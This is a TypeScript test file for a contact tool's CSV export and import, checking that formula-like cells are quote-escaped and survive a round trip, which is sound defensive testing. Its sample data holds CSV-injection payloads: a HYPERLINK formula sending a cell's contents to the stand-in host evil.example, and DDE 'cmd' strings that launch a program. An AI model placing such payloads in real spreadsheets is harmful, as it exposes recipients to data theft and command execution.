import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { CsvReader } from '../../src/lib/csv.ts';
import { connect } from '../../src/db/connect.ts';
import { assent } from '../helpers/cli.ts';
import { forEachDialect } from '../helpers/db.ts';
import { contactByEmailKey } from '../../src/modules/contact-records/module.ts';

const dir = mkdtempSync(join(tmpdir(), 'assent-csv-formulas-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** Cells a spreadsheet would run as a formula (OWASP "CSV injection"), and one that merely looks escaped. */
const HOSTILE = {
  firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  lastName: "+cmd|' /C calc'!A0",
  company: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone: '+44 20 7946 0958',
  language: null,
};
const cellsOf = (csv: string) => {
  const r = new CsvReader();
  return [...r.push(csv), ...r.end()].flatMap((i) => (i.kind === 'record' ? [i.cells] : []));
};

forEachDialect('CSV the product writes cannot run as a formula', (ctx) => {
  const file = (name: string, text: string) => {
    const p = join(dir, `${ctx.dialect}-${name}`);
    writeFileSync(p, text);
    return p;
  };

  it('assent export contacts prefixes formula cells with a quote, and importing the export gives back the values', async () => {
    const db = connect(ctx.url);
    try {
      const now = new Date().toISOString();
      await db.kysely
        .insertInto('contacts')
        .values({
          id: '0190aaaa-0000-7000-8000-0000000f0001',
          email: 'formula@example.com',
          first_name: HOSTILE.firstName,
          last_name: HOSTILE.lastName,
          company: HOSTILE.company,
          phone: HOSTILE.phone,
          is_child: 0,
          guardian_consent: 0,
          consent_level: 0,
          created_at: now,
          updated_at: now,
        } as never)
        .execute();
      await db.kysely
        .insertInto('contacts')
        .values({
          id: '0190aaaa-0000-7000-8000-0000000f0002',
          email: 'quoted@example.com',
          first_name: "'=already quoted",
          last_name: "'plain",
          company: '-minus corp',
          is_child: 0,
          guardian_consent: 0,
          consent_level: 0,
          created_at: now,
          updated_at: now,
        } as never)
        .execute();
      // Behind the app's back (the values would not pass its checks), so their addresses' registry rows too.
      await db.kysely
        .insertInto('contact_emails')
        .values([
          { email_key: 'formula@example.com', dup: 0, contact_id: '0190aaaa-0000-7000-8000-0000000f0001' },
          { email_key: 'quoted@example.com', dup: 0, contact_id: '0190aaaa-0000-7000-8000-0000000f0002' },
        ])
        .execute();
      const out = await assent(ctx.url, 'export', 'contacts');
      assert.equal(out.code, 0, out.stderr);
      const rows = cellsOf(out.stdout);
      const header = rows[0]!;
      const row = (email: string) => Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[1] === email)![i]!]));
      const f = row('formula@example.com');
      assert.equal(f.firstName, `'${HOSTILE.firstName}`);
      assert.equal(f.lastName, `'${HOSTILE.lastName}`);
      assert.equal(f.company, `'${HOSTILE.company}`);
      assert.equal(f.phone, `'${HOSTILE.phone}`);
      const q = row('quoted@example.com');
      assert.equal(
        q.firstName,
        "''=already quoted",
        'a quote before a formula character is itself escaped, so the import gives back the value',
      );
      assert.equal(q.lastName, "'plain", 'a quote before anything else is left alone');
      assert.equal(q.company, "'-minus corp");
      for (const r of rows.slice(1))
        for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(cell)}`);

      // The export imports back as the same values: the importer takes one quote off before a formula character.
      await db.kysely
        .updateTable('contacts')
        .set({ first_name: 'changed', last_name: 'changed', company: 'changed', phone: null })
        .execute();
      const back = await assent(ctx.url, 'import', 'contacts', file('export.csv', out.stdout));
      assert.equal(back.code, 0, back.stderr);
      assert.match(back.stdout, /^created 0, updated 2, rejected 0\n/, back.stdout);
      const a = (await contactByEmailKey(db.kysely, 'formula@example.com'))!;
      assert.deepEqual(
        [a.first_name, a.last_name, a.company, a.phone],
        [HOSTILE.firstName, HOSTILE.lastName, HOSTILE.company, HOSTILE.phone],
      );
      const b = (await contactByEmailKey(db.kysely, 'quoted@example.com'))!;
      assert.deepEqual([b.first_name, b.last_name, b.company], ["'=already quoted", "'plain", '-minus corp']);
    } finally {
      await db.close();
    }
  });

  it('FILE.rejected.csv neutralises formula cells too, and importing it again means what the first file meant', async () => {
    const csv = file('evil.csv', `email,firstName,consentLevel\nnot-an-address,"=1+2",1\n"=HYPERLINK(""x"")",'=kept,9\n`);
    const r = await assent(ctx.url, 'import', 'contacts', csv);
    assert.equal(r.code, 0, r.stderr);
    const rejected = readFileSync(join(dir, `${ctx.dialect}-evil.rejected.csv`), 'utf8');
    const rows = cellsOf(rejected);
    assert.deepEqual(rows[1]!.slice(0, 3), ['not-an-address', "'=1+2", '1']);
    assert.deepEqual(rows[2]!.slice(0, 3), ['\'=HYPERLINK("x")', "'=kept", '9'], "the file's own '=kept meant =kept, and still does");
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });
});
